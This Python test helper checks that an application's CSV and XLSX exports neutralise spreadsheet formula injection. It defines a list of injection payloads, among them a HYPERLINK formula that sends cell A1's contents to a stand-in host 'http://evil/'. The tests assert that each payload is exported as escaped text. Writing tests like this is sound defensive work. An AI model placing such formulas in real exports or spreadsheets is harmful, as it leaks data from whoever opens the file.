"""Reading exported spreadsheets back as staff's spreadsheet program would: shared by the formula tests."""

import csv
import io

import openpyxl

HYPERLINK = '=HYPERLINK("http://evil/"&A1,"x")'
SUM = "=1+1"
# Every sign a spreadsheet reads as the start of a formula, and the whitespace that can hide one.
PAYLOADS = [HYPERLINK, SUM, "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def content_of(response):
    return response.getvalue() if response.streaming else response.content


def csv_cells(response):
    text = content_of(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(response))).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_csv_is_safe(response, *typed):
    """No cell starts a formula, and each typed value is there, as text."""
    cells = csv_cells(response)
    assert not [cell for cell in cells if cell[:1] == "=" or cell[:1] == "@"]
    for value in typed:
        assert "'" + value in cells, value
    return cells


def assert_xlsx_is_safe(response, *typed):
    """No cell is a formula, and each typed value is in a text cell."""
    cells = xlsx_cells(response)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    text = {cell.value for cell in cells if cell.data_type == "s"}
    for value in typed:
        assert "'" + value in text, value
    return cells
